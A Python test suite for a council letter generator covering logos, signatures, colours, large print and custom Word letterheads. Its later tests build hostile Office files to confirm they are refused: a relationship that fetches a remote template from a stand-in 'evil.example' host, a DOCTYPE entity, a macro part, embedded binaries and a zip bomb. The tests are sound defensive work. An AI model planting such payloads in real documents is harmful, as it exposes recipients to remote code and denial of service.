"""A council's look, in every form: logo with its alternative text, colours, signature, and a letterhead of its own."""

import zipfile
from collections.abc import Callable
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from docx import Document
from docx.document import Document as Letter
from pypdf import PdfReader

from documents.drawn import png
from documents.test_papers import tags
from panelctl.actions.looks import signature
from panelctl.documents.formats import in_every_format
from panelctl.documents.paper import LARGE, Look, Paper
from panelctl.documents.pictures import picture
from panelctl.documents.reading import keeps_standard
from panelctl.documents.unfit import Unfit
from panelctl.documents.word import shipped, to_word
from panelctl.documents.word_letterhead import LISTS, STYLES, expect_letterhead

LETTER = """\
# The outcome

1. One
2. Two

- Three

| What | By |
| --- | --- |
| Sign | Friday 25 April 2025 |

Yours sincerely

&nbsp;

Ada O’Moss\\
Principal Social Worker

*  *  *

# The form

&nbsp;

Ada O’Moss
"""
LOOK = Look(picture(png(60, 20), 'The crest of <Northshire> & "more"'), "#003366", "#e6eef5")
SIGNED = picture(png(9, 3), "Signature of Ada O'Moss")
PAPER = Paper("The outcome", "Our record: 12 · abc", "Northshire", date(2025, 4, 24), look=LOOK, signature=SIGNED)


def test_the_logo_stands_in_every_form_with_what_it_shows() -> None:
    made = in_every_format(LETTER, PAPER)
    page = made["html"].decode()
    assert page.count('<img src="data:image/png;base64,') == 2
    assert 'alt="The crest of &lt;Northshire&gt; &amp; &quot;more&quot;"' in page
    assert "default-src 'none'; style-src 'unsafe-inline'; img-src data:\"" in page
    assert "h1, h2, h3 { color: #003366; }" in page
    word = Document(BytesIO(made["docx"]))
    assert word.element.body.xpath("//wp:docPr/@descr") == [LOOK.logo and LOOK.logo.says, SIGNED.says]
    assert str(word.styles["Heading 1"].font.color.rgb) == "003366"
    assert word.element.body.xpath("//w:shd/@w:fill") == ["e6eef5", "e6eef5"]
    assert keeps_standard(made["pdf"])
    assert tags(made["pdf"]).count("/Figure") == 2
    assert in_every_format(LETTER, PAPER) == made


def test_a_page_without_a_picture_allows_none() -> None:
    assert b"img-src" not in in_every_format(LETTER, Paper("The outcome"))["html"]


def test_large_print_is_large_in_a_page_of_html_too() -> None:
    page = in_every_format(LETTER, PAPER._replace(size=LARGE))["html"].decode()
    assert "body { font-size: 18pt; }" in page
    assert "@media print { body { font-size: 18pt; } }" in page


def test_a_signature_stands_only_under_the_name_of_whoever_cleared_it() -> None:
    found = {"Ada O'Moss": SIGNED, "Bo Lind": picture(png(), "Signature of Bo Lind")}
    assert signature(found, LETTER, "Ada O'Moss") is SIGNED
    assert signature(found, LETTER, "Bo Lind") is None
    assert signature(found, LETTER, "") is None
    assert signature(found, LETTER.replace("&nbsp;", ""), "Ada O'Moss") is None


def letterhead(change: Callable[[Letter], object] = lambda letter: None) -> bytes:
    letter = Document()
    letter.sections[0].header.paragraphs[0].text = "Northshire Council"
    letter.add_paragraph("Dear (name)")
    change(letter)
    written = BytesIO()
    letter.save(written)
    return written.getvalue()


def without_styles(letter: Letter) -> None:
    for name in STYLES:
        letter.styles[name].delete()


def with_another_first_page(letter: Letter) -> None:
    letter.sections[0].different_first_page_header_footer = True
    letter.sections[0].first_page_header.paragraphs[0].text = "Northshire Council"


@pytest.mark.parametrize("change", [lambda letter: None, without_styles, with_another_first_page])
def test_a_letter_for_word_is_set_on_a_letterhead_of_their_own(change: Callable[[Letter], object]) -> None:
    own = letterhead(change)
    expect_letterhead(own, shipped())
    made = to_word(LETTER, PAPER._replace(look=LOOK._replace(word=own)))
    assert made == to_word(LETTER, PAPER._replace(look=LOOK._replace(word=own)))
    letter = Document(BytesIO(made))
    page = letter.sections[0]
    first = page.different_first_page_header_footer
    assert (page.first_page_header if first else page.header).paragraphs[0].text == "Northshire Council"
    assert (page.first_page_footer if first else page.footer).paragraphs[0].text == PAPER.foot
    assert letter.element.body.xpath("//wp:docPr/@descr") == [SIGNED.says]  # the logo is in their letterhead
    assert "Dear (name)" not in [paragraph.text for paragraph in letter.paragraphs]
    assert [paragraph.text for paragraph in letter.paragraphs if paragraph.style and paragraph.style.name in LISTS] == [
        "One", "Two", "Three",
    ]  # fmt: skip
    numbers = letter.part.numbering_part.element
    for number in letter.element.body.xpath("//w:numPr/w:numId/@w:val"):
        assert numbers.xpath(f"./w:num[@w:numId='{number}']")


def packed(content: bytes, **parts: bytes) -> bytes:
    """A file of Word with more parts in it, or others."""
    written = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as before, zipfile.ZipFile(written, "w") as after:
        for name in before.namelist():
            after.writestr(name, parts.pop(name, before.read(name)))
        for name, part in parts.items():
            after.writestr(name, part)
    return written.getvalue()


OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 what Office wrote"
FETCHED = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a"'
    b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "is no file of Word or PowerPoint, or is damaged: it cannot be unpacked"),
        (b"\xff\xd8\xff\xe0 a photograph", "is no file of Word or PowerPoint, or is damaged: it cannot be unpacked"),
        (OLD, "is locked with a password, or of a kind that Office made before 2007"),
        (packed(letterhead(), **{"word/vbaProject.bin": b"x"}), "has macros in it: save it without them"),
        (packed(letterhead(), **{"word/embeddings/a.bin": b"x"}), "has files of other programs embedded in it"),
        (
            packed(letterhead(), **{"word/x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
            "declares what no file of Office does (DOCTYPE in word/x.xml)",
        ),
        (
            packed(letterhead(), **{"word/_rels/settings.xml.rels": FETCHED}),
            "would fetch something from elsewhere when it is opened (attachedTemplate)",
        ),
        (
            packed(letterhead(), **{"[Content_Types].xml": b"<Types/>"}),
            "is no document of Word: save it as .docx, and neither as .docm nor as .dotx",
        ),
        (packed(letterhead(), **{"word/document.xml": b"<w"}), "is damaged, and cannot be written on"),
    ],
)  # fmt: skip
def test_a_letterhead_that_is_none_or_does_more_than_be_read_is_refused(content: bytes, why: str) -> None:
    with pytest.raises(Unfit) as refused:
        expect_letterhead(content, shipped())
    assert str(refused.value) == why


def test_a_file_that_unpacks_without_end_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("word/document.xml", "w") as part:
        for _ in range(60):
            part.write(b"\0" * 1_000_000)
    with pytest.raises(Unfit, match=r"has a part that unpacks to more than 50,000,000 bytes: word/document\.xml"):
        expect_letterhead(bomb.read_bytes(), shipped())


def test_words_stay_readable_in_a_pdf_with_pictures() -> None:
    words = PdfReader(BytesIO(in_every_format(LETTER, PAPER)["pdf"])).pages[0].extract_text()
    assert "Ada O’Moss" in words
